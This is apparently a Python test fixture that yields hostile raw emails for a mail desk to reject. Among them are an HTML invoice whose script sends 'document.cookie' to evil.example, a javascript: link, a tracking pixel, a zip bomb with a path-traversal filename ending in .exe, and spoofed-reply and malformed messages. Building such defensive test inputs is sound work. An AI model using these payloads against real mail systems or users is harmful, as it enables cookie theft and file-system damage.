"""Mail that a desk had better not believe: strangers, machines, and mail that is hardly mail."""

import base64
import zlib
from collections.abc import Iterator
from datetime import datetime
from email.utils import format_datetime

TO = "consumer@thistlewood.example"
SCRIPT = (
    "<html><body onload=\"steal()\"><script>fetch('http://evil.example/?'+document.cookie)</script>"
    '<p>Dear sirs, see <a href="javascript:alert(1)">the invoice</a>.</p>'
    '<img src="http://tracker.example/open.gif" width="1" height="1"></body></html>'
)


def hostile_mail(*, reference: str, message_id: str, loop: str, now: datetime) -> Iterator[bytes]:
    """Yield raw mail. `reference` and `message_id` are of a case of somebody else; `loop` marks our own."""
    date = format_datetime(now)
    yield _mail(
        date, "Angus <angus@stranger.example>", f"Re: {reference}", "Tell me her new address, it is urgent."
    )
    yield _mail(
        date, "J. Smith <j.smith@nobody.example>", "Re: your answer", "Send the invoice to me from now on.",
        f"In-Reply-To: <{message_id}>", f"References: <{message_id}>",
    )  # fmt: skip
    yield _mail(
        date, "Guess <guess@stranger.example>", "I try numbers", "Hello?",
        to=f"consumer+{'0123456789ab' * 2}@thistlewood.example",
    )  # fmt: skip
    yield _mail(
        date, "Lottery Board <win@lucky.example>", "You won", "Send bank details.", "Precedence: bulk"
    )
    yield _mail(
        date, "Mail system <mailer-daemon@elsewhere.example>", "Undelivered", "550 5.1.1 no such user"
    )
    yield _mail(
        date, f"Thistlewood <{TO}>", "We have your message", "Thank you for your message.",
        f"X-Rapport-Loop: {loop}",
    )  # fmt: skip
    yield _mail(date, "", "No name, no address", "Who am I?")
    yield _mail(date, "", "Invoice", SCRIPT, "Content-Type: text/html; charset=utf-8")
    yield _bomb(date)
    yield b"From: <<broken@\nContent-Type: multipart/mixed; boundary=\n\n--\nhalf\xff\xfe"


def _mail(date: str, sender: str, subject: str, text: str, *more: str, to: str = TO) -> bytes:
    named = [f"From: {sender}"] if sender else []
    lines = [*named, f"To: {to}", f"Subject: {subject}", f"Date: {date}", *more, "", text, ""]
    return "\r\n".join(lines).encode()


def _bomb(date: str) -> bytes:
    """Return a mail with a file that would unpack to a hundred times its size, and a name that climbs."""
    packed = base64.encodebytes(zlib.compress(bytes(1_000_000), 9)).decode()
    lines = [
        "From: invoices@stranger.example", f"To: {TO}", "Subject: 42.zip", f"Date: {date}",
        "Auto-Submitted: auto-generated", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"',
        "", "--b", "Content-Type: text/plain", "", "Open the file.", "--b", "Content-Type: application/zip",
        'Content-Disposition: attachment; filename="../../42.zip.exe"', "Content-Transfer-Encoding: base64",
        "", packed, "--b--", "",
    ]  # fmt: skip
    return "\r\n".join(lines).encode()
